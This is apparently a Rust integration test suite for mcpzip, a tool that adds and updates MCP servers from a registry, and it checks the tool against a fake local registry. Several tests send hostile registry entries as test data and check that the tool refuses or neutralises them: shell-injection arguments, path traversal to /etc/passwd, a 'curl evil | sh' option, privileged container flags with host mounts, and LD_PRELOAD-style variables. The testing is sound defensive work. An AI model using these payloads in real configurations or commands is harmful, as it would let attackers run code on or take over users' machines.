//! Servers that come from a registry: found, added, and brought up to date, with a registry on loopback.

use std::sync::{Arc, Mutex};

use serde_json::{Value, json};

use crate::support::Setup;
use crate::support::closed_port::ClosedPort;
use crate::support::command::{self, Outcome};
use crate::support::http::{HttpServer, Reply, Request};

/// A registry of these servers; what it has may change.
#[derive(Clone)]
struct Fake {
    servers: Arc<Mutex<Vec<Value>>>,
    web: HttpServer,
}

impl Fake {
    fn new(servers: &[Value]) -> Self {
        let servers = Arc::new(Mutex::new(servers.to_vec()));
        let shared = servers.clone();
        Self {
            servers,
            web: HttpServer::start(move |request, reply| {
                answer(&shared.lock().unwrap(), request, reply);
            }),
        }
    }

    fn set(&self, servers: &[Value]) {
        *self.servers.lock().unwrap() = servers.to_vec();
    }

    fn home(&self) -> Setup {
        home_with(&self.web.url("/"))
    }
}

fn home_with(registry: &str) -> Setup {
    let setup = Setup::new()
        .log_level("error")
        .variable("MCPZIP_REGISTRY", registry);
    setup.save_text("{\n  // mine\n  \"mcpServers\": {}\n}\n");
    setup
}

/// Two to a page, the cursor being the number of the next one.
fn answer(servers: &[Value], request: &Request, reply: &mut Reply) {
    let (path, query) = request.path.split_once('?').unwrap_or((&request.path, ""));
    let parts: Vec<String> = path
        .split('/')
        .map(|part| part.replace("%2F", "/"))
        .collect();
    let of = |key: &str| {
        let pair = query
            .split('&')
            .find_map(|pair| pair.strip_prefix(key)?.strip_prefix('='));
        pair.unwrap_or_default().to_owned()
    };
    match parts
        .iter()
        .map(String::as_str)
        .collect::<Vec<_>>()
        .as_slice()
    {
        ["", "v0.1", "servers"] => {
            assert_eq!(of("version"), "latest");
            let found: Vec<&Value> = servers
                .iter()
                .filter(|one| {
                    one["server"]["name"]
                        .as_str()
                        .is_none_or(|name| name.contains(&of("search")))
                })
                .collect();
            let start: usize = of("cursor").parse().unwrap_or(0);
            let page: Vec<&&Value> = found.iter().skip(start).take(2).collect();
            let next = (start + 2 < found.len()).then(|| (start + 2).to_string());
            reply
                .json(&json!({ "servers": page, "metadata": { "count": page.len(), "nextCursor": next } }).to_string());
        }
        ["", "v0.1", "servers", name, "versions", version] => {
            let mut fitting = servers
                .iter()
                .rev()
                .filter(|one| one["server"]["name"] == *name);
            match fitting.find(|one| *version == "latest" || one["server"]["version"] == *version) {
                Some(server) => reply.json(&server.to_string()),
                None => reply.whole(
                    "404 Not Found",
                    "content-type: application/json\r\n",
                    r#"{"error":"Server not found"}"#,
                ),
            }
        }
        _ => reply.whole("404 Not Found", "", ""),
    }
}

/// Puts more members into an object.
fn extend(object: &mut Value, members: Value) {
    let Value::Object(members) = members else {
        panic!("no object: {members}")
    };
    object.as_object_mut().unwrap().extend(members);
}

fn listed(name: &str, version: &str, members: Value) -> Value {
    let mut server =
        json!({ "name": name, "version": version, "description": format!("About {name}.") });
    extend(&mut server, members);
    json!({ "server": server, "_meta": { "io.modelcontextprotocol.registry/official": { "status": "active" } } })
}

fn npm(identifier: &str, version: &str, members: Value) -> Value {
    let mut package = json!({ "registryType": "npm", "identifier": identifier, "version": version, "transport": { "type": "stdio" } });
    extend(&mut package, members);
    json!({ "packages": [package] })
}

fn weather(version: &str) -> Value {
    listed(
        "io.github.me/weather",
        version,
        npm(
            "@me/weather",
            version,
            json!({
                "packageArguments": [{ "type": "positional", "valueHint": "city", "isRequired": true, "description": "Where you are" }],
                "environmentVariables": [
                    { "name": "WEATHER_KEY", "isRequired": true, "isSecret": true, "description": "From the site" },
                    { "name": "UNITS", "isRequired": true, "choices": ["metric", "imperial"] },
                    { "name": "LEVEL", "default": "info" },
                ],
            }),
        ),
    )
}

#[track_caller]
fn run(setup: &Setup, arguments: &[&str]) -> Outcome {
    command::run(setup.command(arguments), "")
}

/// Adds `a.b/c`, which is refused.
fn refuse_c(setup: &Setup) -> Outcome {
    let server = ["add", "c", "--from-registry", "a.b/c"];
    run(setup, &[&server[..], &["--no-check", "--yes"]].concat()).code(1)
}

fn text(setup: &Setup) -> String {
    std::fs::read_to_string(setup.config_path()).unwrap()
}

fn entry(setup: &Setup, name: &str) -> Value {
    let text = text(setup).replace("  // mine\n", "");
    serde_json::from_str::<Value>(&text).unwrap_or_else(|error| panic!("{error}: {text}"))["mcpServers"][name].clone()
}

/// Adds the weather server; the program itself is not there, so it is not tried.
#[track_caller]
fn add_weather(setup: &Setup) {
    let arguments = [
        "add",
        "weather",
        "--from-registry",
        "io.github.me/weather",
        "--no-check",
    ];
    let _ = run(
        setup,
        &[
            &arguments[..],
            &["--set", "city=Bonn", "-e", "UNITS=metric"],
        ]
        .concat(),
    )
    .code(0);
}

#[test]
fn servers_are_found_on_all_pages_and_their_words_are_made_harmless() {
    let mut hostile = listed(
        "io.github.evil/x",
        "1.0.0",
        json!({ "description": "a\u{1b}[2J\u{202e}b\u{9b}31m\nc" }),
    );
    hostile["server"]["title"] = json!("T\u{7}");
    let registry = Fake::new(&[
        weather("1.0.0"),
        json!({ "server": "odd" }),
        listed("../../etc/passwd", "1.0.0", json!({})),
        hostile,
        json!({ "server": { "name": "a.b/gone", "version": "1" }, "_meta": { "io.modelcontextprotocol.registry/official": { "status": "deleted" } } }),
        listed(
            "a.b/remote",
            "2.0.0",
            json!({ "remotes": [{ "type": "sse", "url": "https://a.b/sse" }], "packages": null }),
        ),
    ]);
    let setup = registry.home();
    let found = run(&setup, &["registry", "search", ""]).code(0);
    let servers = found.json()["servers"].as_array().unwrap().clone();
    let names: Vec<&str> = servers
        .iter()
        .map(|server| server["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        ["io.github.me/weather", "io.github.evil/x", "a.b/remote"]
    );
    assert_eq!(
        (
            &servers[0]["ways"],
            &servers[1]["ways"],
            &servers[2]["ways"]
        ),
        (&json!(["npm"]), &json!([]), &json!(["remote"]))
    );
    assert_eq!(servers[1]["description"], "a [2Jb 31m c");
    let one = run(&setup, &["registry", "search", "weather", "-n", "1"])
        .code(0)
        .json();
    assert_eq!(one["servers"].as_array().map(Vec::len), Some(1));
    assert_eq!(
        run(&setup, &["registry", "search", "nothing"])
            .code(0)
            .json()["servers"],
        json!([])
    );
}

#[test]
fn an_entry_is_made_of_what_the_registry_says_and_secrets_stay_out() {
    let registry = Fake::new(&[weather("1.0.0"), weather("1.1.0")]);
    let setup = registry.home();
    let arguments = [
        "add",
        "weather",
        "--from-registry",
        "io.github.me/weather",
        "--no-check",
        "--version",
        "1.0.0",
    ];
    let more = [
        "--set",
        "city=Bonn",
        "-e",
        "UNITS=metric",
        "-e",
        "WEATHER_KEY=hunter2-secret",
        "-e",
        "MY_OWN=1",
    ];
    let added = run(
        &setup,
        &[&arguments[..], &more, &["--timeout", "30"]].concat(),
    )
    .code(0);
    assert!(
        added.stderr.contains("WEATHER_KEY is secret") && !added.stderr.contains("hunter2"),
        "{added}"
    );
    assert!(!text(&setup).contains("hunter2"), "{}", text(&setup));
    assert!(
        text(&setup).starts_with("{\n  // mine\n  \"mcpServers\": {"),
        "{}",
        text(&setup)
    );
    let given = json!({
        "command": "npx", "args": ["-y", "@me/weather@1.0.0", "Bonn"],
        "env": { "WEATHER_KEY": "${WEATHER_KEY}", "UNITS": "metric", "LEVEL": "info" },
    });
    let mut expected = given.clone();
    expected["env"]["MY_OWN"] = json!("1");
    expected["timeout"] = json!(30);
    expected["registry"] = json!({
        "name": "io.github.me/weather", "version": "1.0.0", "use": "npm",
        "inputs": { "city": "Bonn", "UNITS": "metric", "WEATHER_KEY": "${WEATHER_KEY}" }, "given": given,
    });
    assert_eq!(entry(&setup, "weather"), expected);
    // Where it came from is nothing that a reader of the file would remark upon.
    let shown = run(&setup.log_level("warn"), &["list"]).code(0);
    assert!(!shown.stderr.contains("unknown key"), "{shown}");
}

#[test]
fn the_name_alone_will_do_where_one_server_is_called_so() {
    let other = listed(
        "com.example/weather-pro",
        "1.0.0",
        npm("pro", "1.0.0", json!({})),
    );
    let registry = Fake::new(&[
        weather("1.0.0"),
        other,
        listed("com.example/solo", "1.0.0", npm("solo", "1.0.0", json!({}))),
    ]);
    let setup = registry.home();
    let _ = run(
        &setup,
        &[
            "add",
            "weather",
            "--from-registry",
            "--no-check",
            "--set",
            "city=Bonn",
            "--set",
            "UNITS=metric",
        ],
    )
    .code(0);
    assert_eq!(
        entry(&setup, "weather")["registry"]["name"],
        "io.github.me/weather"
    );
    let _ = run(&setup, &["add", "sol", "--from-registry", "--no-check"]).code(0);
    assert_eq!(entry(&setup, "sol")["args"], json!(["-y", "solo@1.0.0"]));
    let several = run(&setup, &["add", "weath", "--from-registry", "--no-check"]).code(1);
    assert!(
        several.stderr.contains("com.example/weather-pro")
            && several.stderr.contains("--from-registry ID"),
        "{several}"
    );
    let none = run(&setup, &["add", "tides", "--from-registry"]).code(1);
    assert!(none.stderr.contains("no server with `tides`"), "{none}");
}

#[test]
fn what_is_missing_or_wrong_is_named_and_nothing_is_written() {
    let registry = Fake::new(&[
        weather("1.0.0"),
        listed(
            "a.b/bundle",
            "1.0.0",
            json!({ "packages": [{ "registryType": "mcpb", "identifier": "https://x/y.mcpb" }] }),
        ),
    ]);
    let setup = registry.home();
    let before = text(&setup);
    let id = "io.github.me/weather";
    for (arguments, reasons) in [
        (
            &["--from-registry", id][..],
            &[
                "--set city=…  Where you are",
                "--set UNITS=…  one of metric, imperial",
            ][..],
        ),
        (
            &[
                "--from-registry",
                id,
                "--set",
                "city=Bonn",
                "--set",
                "UNITS=kelvin",
            ],
            &["`UNITS` must be one of metric, imperial"],
        ),
        (
            &["--from-registry", id, "--set", "town=Bonn"],
            &["does not ask for `town`; it asks for WEATHER_KEY"],
        ),
        (
            &["--from-registry", "io.github.me/nobody"],
            &["no server `io.github.me/nobody`"],
        ),
        (
            &["--from-registry", id, "--version", "9.9.9"],
            &["of version `9.9.9`"],
        ),
        (
            &["--from-registry", id, "--version", "../1"],
            &["`../1` is not a version"],
        ),
        (
            &["--from-registry", "../../../etc/passwd"],
            &["is not a registry name"],
        ),
        (
            &["--from-registry", id, "--use", "oci"],
            &["no oci among what it has: npm"],
        ),
        (&["--from-registry", "a.b/bundle"], &["what it has is mcpb"]),
    ] {
        let arguments = [&["add", "w", "--no-check"], arguments].concat();
        let refused = run(&setup, &arguments).code(1);
        for reason in reasons {
            assert!(refused.stderr.contains(reason), "{reason}: {refused}");
        }
        assert_eq!(text(&setup), before);
    }
    let _ = run(&setup, &["add", "w", "--from-registry", id, "--", "x"]).code(2);
    let lone = run(&setup, &["add", "w", "--set", "a=b", "--", "x"]).code(2);
    assert!(lone.stderr.contains("go with `--from-registry`"), "{lone}");
    let swallowed = run(&setup, &["add", "notes", "npx", "-y", "notes-mcp"]).code(2);
    let advice = "`mcpzip add notes -- npx notes-mcp …`";
    assert!(swallowed.stderr.contains(advice), "{swallowed}");
}

#[test]
fn hostile_answers_cost_an_error_and_nothing_else() {
    let huge = format!(
        r#"{{"servers":[{{"server":{{"name":"a.b/c","version":"1","description":"{}"}}}}]}}"#,
        "x".repeat(5_000_000)
    );
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let other = listed("a.b/other", "1.0.0", npm("p", "1.0.0", json!({}))).to_string();
    let evil = listed("a.b/c", "1.0.0", npm("--eval", "1.0.0", json!({}))).to_string();
    let shell = listed(
        "a.b/c",
        "1.0.0",
        npm("p", "1.0.0", json!({ "runtimeHint": "sh" })),
    )
    .to_string();
    for (body, reason) in [
        (huge, "more than"),
        (deep, "cannot be used"),
        ("<html>\u{1b}[31m</html>".to_owned(), "cannot be used"),
        (
            r#"{"servers": 5, "server": []}"#.to_owned(),
            "cannot be used",
        ),
        (
            r#"{"server": {"name": ["\u001b[2J"], "version": {}}}"#.to_owned(),
            "cannot be used",
        ),
        (other, "another server"),
        (evil, "the package's name is `--eval`"),
        (shell, "run by `sh`"),
    ] {
        let web = HttpServer::start(move |_, reply| reply.json(&body));
        let setup = home_with(&web.url(""));
        let before = text(&setup);
        let refused = run(
            &setup,
            &["add", "c", "--from-registry", "a.b/c", "--no-check"],
        )
        .code(1);
        assert!(refused.stderr.contains(reason), "{reason}: {refused}");
        assert!(
            !refused.stderr.trim_end().contains(|c: char| c.is_control()),
            "{refused}"
        );
        assert_eq!(text(&setup), before);
    }
}

#[test]
fn shell_characters_and_references_in_an_answer_stay_what_they_are() {
    let odd = listed(
        "a.b/c",
        "1.0.0",
        npm(
            "p",
            "1.0.0",
            json!({
                "packageArguments": [{ "type": "positional", "value": "; touch /tmp/x $(id) `id`" }],
                "environmentVariables": [{ "name": "LEAK", "value": "${HOME} ${x}", "variables": { "x": { "default": "{PATH}" } } }],
            }),
        ),
    );
    let registry = Fake::new(&[odd]);
    let setup = registry.home();
    let _ = run(
        &setup,
        &["add", "c", "--from-registry", "a.b/c", "--no-check"],
    )
    .code(0);
    assert_eq!(
        entry(&setup, "c")["args"],
        json!(["-y", "p@1.0.0", "; touch /tmp/x $(id) `id`"])
    );
    assert_eq!(
        entry(&setup, "c")["env"],
        json!({ "LEAK": "$${HOME} $${PATH}" })
    );
}

#[test]
fn answers_are_kept_and_serve_when_nobody_answers() {
    let registry = Fake::new(&[weather("1.0.0")]);
    let setup = registry.home();
    let asked = || registry.web.requests().len();
    let first = run(&setup, &["registry", "search", "weather"])
        .code(0)
        .json();
    assert_eq!((asked(), &first["stale_seconds"]), (1, &Value::Null));
    let again = run(&setup, &["registry", "search", "weather"])
        .code(0)
        .json();
    assert_eq!((asked(), &again["servers"]), (1, &first["servers"]));
    // An hour later, and the registry is gone.
    let directory = setup.cache_path().join("registry-v1");
    for file in std::fs::read_dir(&directory).unwrap().flatten() {
        let file = std::fs::File::options()
            .append(true)
            .open(file.path())
            .unwrap();
        file.set_modified(std::time::SystemTime::now() - std::time::Duration::from_secs(3700))
            .unwrap();
    }
    let _ = run(&setup, &["registry", "search", "weather"]).code(0);
    assert_eq!(asked(), 2, "an old answer is asked for again");
    registry.set(&[]);
    for file in std::fs::read_dir(&directory).unwrap().flatten() {
        let file = std::fs::File::options()
            .append(true)
            .open(file.path())
            .unwrap();
        file.set_modified(std::time::SystemTime::now() - std::time::Duration::from_secs(7300))
            .unwrap();
    }
    let gone = ClosedPort::new();
    let offline =
        Setup::clone(&setup).variable("MCPZIP_REGISTRY", &format!("http://{}", gone.address()));
    let nothing = run(&offline, &["registry", "search", "weather"]).code(4);
    assert!(nothing.stderr.contains("cannot be reached"), "{nothing}");
    // The same address, which breaks off now.
    let broken = BrokenLater::new();
    let setup = home_with(&broken.web.url(""));
    let _ = run(&setup, &["registry", "search", "x"]).code(0);
    broken.breaks();
    for file in std::fs::read_dir(setup.cache_path().join("registry-v1"))
        .unwrap()
        .flatten()
    {
        let file = std::fs::File::options()
            .append(true)
            .open(file.path())
            .unwrap();
        file.set_modified(std::time::SystemTime::now() - std::time::Duration::from_secs(7300))
            .unwrap();
    }
    let kept = run(&setup, &["registry", "search", "x"]).code(0);
    assert!(
        kept.stderr.contains("2 h ago") && kept.stderr.contains("HTTP 503"),
        "{kept}"
    );
    assert!(
        kept.json()["stale_seconds"].as_u64().unwrap() >= 7200,
        "{kept}"
    );
}

/// A registry that answers until it does not.
struct BrokenLater {
    web: HttpServer,
    is_broken: Arc<Mutex<bool>>,
}

impl BrokenLater {
    fn new() -> Self {
        let is_broken = Arc::new(Mutex::new(false));
        let shared = is_broken.clone();
        let web = HttpServer::start(move |_, reply| match *shared.lock().unwrap() {
            false => reply.json(r#"{"servers":[]}"#),
            true => reply.whole("503 Service Unavailable", "", ""),
        });
        Self { web, is_broken }
    }

    fn breaks(&self) {
        *self.is_broken.lock().unwrap() = true;
    }
}

#[test]
fn the_configuration_names_the_registry_and_the_variable_goes_before_it() {
    let registry = Fake::new(&[weather("1.0.0")]);
    let setup = Setup::new().log_level("warn");
    setup.save_text(&json!({ "mcpServers": {}, "registry": registry.web.url("/") }).to_string());
    let found = run(&setup, &["registry", "search", "weather"]).code(0);
    assert_eq!(
        (
            found.json()["servers"][0]["version"].as_str(),
            found.stderr.as_str()
        ),
        (Some("1.0.0"), "")
    );
    let other = Fake::new(&[weather("2.0.0")]);
    let found = run(
        &setup.variable("MCPZIP_REGISTRY", &other.web.url("")),
        &["registry", "search", "weather"],
    )
    .code(0);
    assert_eq!(found.json()["servers"][0]["version"], "2.0.0");
    let wrong = home_with("ftp://x");
    let refused = run(&wrong, &["registry", "search", "weather"]).code(1);
    assert!(
        refused.stderr.contains("`ftp://x` is not a URL"),
        "{refused}"
    );
}

#[test]
fn an_update_follows_the_registry_and_keeps_what_the_user_changed() {
    let registry = Fake::new(&[weather("1.0.0")]);
    let setup = registry.home();
    add_weather(&setup);
    let current = run(&setup, &["update", "weather", "--no-check"])
        .code(0)
        .json();
    assert_eq!(current["servers"][0]["change"], "current");

    // The user's own: an argument, a level, a note, and what is no business of the registry.
    let edited = text(&setup)
        .replacen("\"Bonn\"]", "\"Bonn\", \"--verbose\"]", 1)
        .replacen("\"LEVEL\": \"info\"", "\"LEVEL\": \"debug\" // loud", 1)
        .replacen(
            "\"registry\": {",
            "\"timeout\": 9,\n      \"registry\": {",
            1,
        );
    setup.save_text(&edited);
    let mut new = weather("2.0.0");
    let variables = new["server"]["packages"][0]["environmentVariables"]
        .as_array_mut()
        .unwrap();
    variables[2]["default"] = json!("warn");
    variables.push(json!({ "name": "CACHE", "value": "on" }));
    registry.set(&[weather("1.0.0"), new]);

    let possible = run(&setup, &["update", "--all", "--dry-run"])
        .code(0)
        .json();
    assert_eq!(
        (&possible["servers"][0]["change"], text(&setup)),
        (&json!("possible"), edited.clone())
    );
    // Without a person to ask, nothing that runs is changed.
    let refused = run(&setup, &["update", "--all", "--no-check"]).code(1);
    for part in ["@me/weather@1.0.0", "@me/weather@2.0.0", "CACHE", "--yes"] {
        assert!(
            refused.stderr.contains(part),
            "`{part}` is not in {refused}"
        );
    }
    assert_eq!(text(&setup), edited);
    let updated = run(&setup, &["update", "weather", "--no-check", "--yes"])
        .code(0)
        .json();
    let report = &updated["servers"][0];
    assert_eq!(
        (&report["from"], &report["to"]),
        (&json!("1.0.0"), &json!("2.0.0"))
    );
    assert_eq!(
        (&report["members"], &report["kept"]),
        (&json!(["args", "env.CACHE"]), &json!(["env.LEVEL"]))
    );
    let now = text(&setup);
    assert!(
        now.contains("\"args\": [\"-y\", \"@me/weather@2.0.0\", \"Bonn\", \"--verbose\"]"),
        "{now}"
    );
    assert!(
        now.contains("\"LEVEL\": \"debug\", // loud\n") && now.contains("\"CACHE\": \"on\""),
        "{now}"
    );
    assert!(
        now.contains("\"timeout\": 9,") && now.starts_with("{\n  // mine\n"),
        "{now}"
    );
    let again = run(&setup, &["update", "weather", "--no-check"])
        .code(0)
        .json();
    assert_eq!(
        (&again["servers"][0]["change"], text(&setup)),
        (&json!("current"), now)
    );
}

#[test]
fn an_update_finds_a_server_by_its_name_here_and_by_the_one_in_the_file() {
    for name in ["my-weather", "my weather"] {
        let registry = Fake::new(&[weather("1.0.0")]);
        let setup = registry.home();
        add_weather(&setup);
        let renamed = text(&setup).replacen("\"weather\": {", "\"my weather\": {", 1);
        assert!(renamed.contains("my weather"), "{renamed}");
        setup.save_text(&renamed);
        registry.set(&[weather("1.0.0"), weather("2.0.0")]);
        let arguments = ["update", name, "--no-check", "--yes"];
        let report = run(&setup, &arguments).code(0).json();
        assert_eq!(report["servers"][0]["server"], "my-weather", "{report:#}");
        let now = text(&setup);
        assert!(
            now.contains("@me/weather@2.0.0") && !now.contains("my-weather"),
            "{now}"
        );
    }
}

#[test]
fn an_update_that_needs_to_know_more_asks_for_it_and_others_go_on() {
    let solo = |version: &str| listed("a.b/solo", version, npm("solo", version, json!({})));
    let registry = Fake::new(&[weather("1.0.0"), solo("1.0.0")]);
    let setup = registry.home();
    add_weather(&setup);
    let _ = run(
        &setup,
        &["add", "solo", "--from-registry", "a.b/solo", "--no-check"],
    )
    .code(0);
    let _ = run(&setup, &["add", "own", "--no-check", "--", "x"]).code(0);
    let mut new = weather("2.0.0");
    let arguments = new["server"]["packages"][0]["packageArguments"]
        .as_array_mut()
        .unwrap();
    arguments.push(
        json!({ "type": "named", "name": "--country", "isRequired": true, "format": "string" }),
    );
    registry.set(&[new, solo("1.1.0")]);
    let updated = run(&setup, &["update", "--all", "--no-check", "--yes"]).code(1);
    assert!(
        updated.stderr.contains("`weather`: ") && updated.stderr.contains("--set country=…"),
        "{updated}"
    );
    assert_eq!(entry(&setup, "solo")["args"], json!(["-y", "solo@1.1.0"]));
    assert_eq!(entry(&setup, "weather")["registry"]["version"], "1.0.0");
    let _ = run(
        &setup,
        &[
            "update",
            "weather",
            "--no-check",
            "--yes",
            "--set",
            "country=de",
        ],
    )
    .code(0);
    assert_eq!(
        entry(&setup, "weather")["args"],
        json!(["-y", "@me/weather@2.0.0", "Bonn", "--country", "de"])
    );
    for (name, reason) in [
        ("own", "did not come from the registry"),
        ("nobody", "no server `nobody` is configured"),
    ] {
        let refused = run(&setup, &["update", name]).code(1);
        assert!(refused.stderr.contains(reason), "{refused}");
    }
}

#[cfg(unix)]
#[test]
fn at_a_terminal_what_is_needed_is_asked_for_and_secrets_are_not_shown() {
    let registry = Fake::new(&[weather("1.0.0")]);
    let setup = registry.home();
    let command = setup.command(&["add", "weather", "--from-registry", "--no-check"]);
    let Some(terminal) = crate::support::terminal::Terminal::run(&command) else {
        return;
    };
    terminal.shows("WEATHER_KEY (From the site)");
    terminal.types("hunter2-secret");
    terminal.shows("UNITS (one of metric, imperial)");
    terminal.types("kelvin");
    terminal.shows("must be one of");
    terminal.types("metric");
    terminal.shows("city (Where you are)");
    terminal.types("Bonn");
    let screen = terminal.shows("Add this?");
    assert!(
        screen.contains("npx -y @me/weather@1.0.0 Bonn") && !screen.contains("hunter2"),
        "{screen}"
    );
    terminal.types("y");
    terminal.shows("[exit 0]");
    assert_eq!(
        entry(&setup, "weather")["env"]["WEATHER_KEY"],
        "${WEATHER_KEY}"
    );
    assert!(!text(&setup).contains("hunter2"));
}

/// A package whose runner is to be started with `arguments`.
fn with_runtime(kind: &str, identifier: &str, arguments: Value) -> Value {
    let package = json!({ "registryType": kind, "identifier": identifier, "version": "1.0.0", "transport": { "type": "stdio" }, "runtimeArguments": arguments });
    listed("a.b/c", "1.0.0", json!({ "packages": [package] }))
}

#[test]
fn a_registry_gives_a_runner_no_option_that_is_not_known_to_be_harmless() {
    let words = |words: &[&str]| -> Value {
        words
            .iter()
            .map(|word| json!({ "type": "positional", "value": word }))
            .collect()
    };
    let named =
        |name: &str, value: &str| json!([{ "type": "named", "name": name, "value": value }]);
    let flag = |name: &str| json!([{ "type": "named", "name": name, "isRequired": true }]);
    for (kind, identifier, arguments) in [
        ("oci", "a/b", flag("--privileged")),
        ("oci", "a/b", named("-v", "/:/host")),
        ("oci", "a/b", words(&["--volume=/:/host"])),
        ("oci", "a/b", named("--mount", "type=bind,src=/,dst=/host")),
        ("oci", "a/b", words(&["run", "evil/image"])),
        ("oci", "a/b", words(&["--rm", "evil/image"])),
        ("oci", "a/b", words(&["-e", "A=1", "evil/image"])),
        ("oci", "a/b", words(&["-e", "--privileged"])),
        ("oci", "a/b", words(&["-e"])),
        ("oci", "a/b", words(&["exec", "-i"])),
        ("oci", "a/b", words(&["-iv/:/host"])),
        ("npm", "p", words(&["-c", "curl evil | sh"])),
        ("npm", "p", named("--registry", "https://evil.example")),
        ("npm", "p", words(&["--registry=https://evil.example"])),
        ("npm", "p", words(&["-y", "evil"])),
        ("npm", "p", named("--package", "evil")),
        ("npm", "p", words(&["--", "evil"])),
        ("pypi", "p", words(&["--from=evil"])),
        ("pypi", "p", named("--index-url", "https://evil.example")),
        ("pypi", "p", named("--python", "/tmp/evil")),
        ("pypi", "p", words(&["evil"])),
        ("nuget", "A.B", named("--source", "https://evil.example")),
        ("nuget", "A.B", words(&["--", "evil"])),
    ] {
        let registry = Fake::new(&[with_runtime(kind, identifier, arguments.clone())]);
        let setup = registry.home();
        let before = text(&setup);
        let refused = refuse_c(&setup);
        assert!(
            refused.stderr.contains("mcpzip does not pass on"),
            "{arguments}: {refused}"
        );
        assert_eq!(text(&setup), before, "{arguments}");
    }
    // A variable that steers the runner is as good as an option.
    for name in [
        "npm_config_registry",
        "NODE_OPTIONS",
        "DOCKER_HOST",
        "LD_PRELOAD",
        "PATH",
        "UV_INDEX_URL",
    ] {
        let package = npm(
            "p",
            "1.0.0",
            json!({ "environmentVariables": [{ "name": name, "value": "x" }] }),
        );
        let registry = Fake::new(&[listed("a.b/c", "1.0.0", package)]);
        let setup = registry.home();
        let refused = refuse_c(&setup);
        assert!(refused.stderr.contains(name), "{name}: {refused}");
    }
    let fine = json!([
        { "type": "positional", "value": "run" },
        { "type": "named", "name": "--rm", "isRequired": true },
        { "type": "named", "name": "-e", "value": "MODE={mode}", "variables": { "mode": { "default": "fast" } } },
    ]);
    let registry = Fake::new(&[with_runtime("oci", "a/b", fine)]);
    let setup = registry.home();
    let _ = run(
        &setup,
        &["add", "c", "--from-registry", "a.b/c", "--no-check"],
    )
    .code(0);
    assert_eq!(
        entry(&setup, "c")["args"],
        json!(["run", "-i", "--rm", "-e", "MODE=fast", "a/b:1.0.0"])
    );
}

#[cfg(unix)]
#[test]
fn an_update_at_a_terminal_shows_what_would_run_and_asks() {
    let solo = |version: &str| listed("a.b/solo", version, npm("solo", version, json!({})));
    let registry = Fake::new(&[solo("1.0.0")]);
    let setup = registry.home();
    let _ = run(
        &setup,
        &["add", "solo", "--from-registry", "a.b/solo", "--no-check"],
    )
    .code(0);
    let before = text(&setup);
    registry.set(&[solo("2.0.0")]);
    let command = setup.command(&["update", "--all", "--no-check"]);
    for (word, is_updated) in [("n", false), ("y", true)] {
        let Some(terminal) = crate::support::terminal::Terminal::run(&command) else {
            return;
        };
        let screen = terminal.shows("[y/N]");
        assert!(
            screen.contains("- solo@1.0.0") && screen.contains("+ solo@2.0.0"),
            "{screen}"
        );
        terminal.types(word);
        terminal.shows("[exit ");
        assert_eq!(text(&setup) != before, is_updated);
    }
}

#[test]
fn flags_of_the_other_kind_of_server_are_refused_in_words() {
    let registry = Fake::new(&[
        weather("1.0.0"),
        listed(
            "a.b/remote",
            "2.0.0",
            json!({ "remotes": [{ "type": "streamable-http", "url": "https://a.b/mcp" }] }),
        ),
    ]);
    let setup = registry.home();
    let before = text(&setup);
    let package = ["--set", "city=Bonn", "-e", "UNITS=metric"];
    let package = [&package[..], &["-H", "Authorization: Bearer x"]].concat();
    for (id, flags, words) in [
        (
            "io.github.me/weather",
            package.as_slice(),
            "`--header` is for URLs",
        ),
        (
            "a.b/remote",
            &["-e", "API_KEY=x"],
            "`--env` is for commands",
        ),
        ("a.b/remote", &["--cwd", "."], "`--cwd` is for commands"),
    ] {
        let server = ["add", "s", "--from-registry", id, "--no-check", "--yes"];
        let refused = run(&setup, &[&server[..], flags].concat()).code(1);
        assert!(refused.stderr.contains(words), "{refused}");
        assert_eq!(text(&setup), before);
    }
    let server = ["add", "w", "--from-registry", "io.github.me/weather"];
    let flags = ["--no-check", "--set", "city=Bonn", "--set", "UNITS=metric"];
    let _ = run(
        &setup,
        &[&server[..], &flags, &["--cwd", "sub/.."]].concat(),
    )
    .code(0);
    let directory = entry(&setup, "w")["cwd"].as_str().unwrap().to_owned();
    assert!(
        std::path::Path::new(&directory).is_absolute(),
        "{directory}"
    );
}
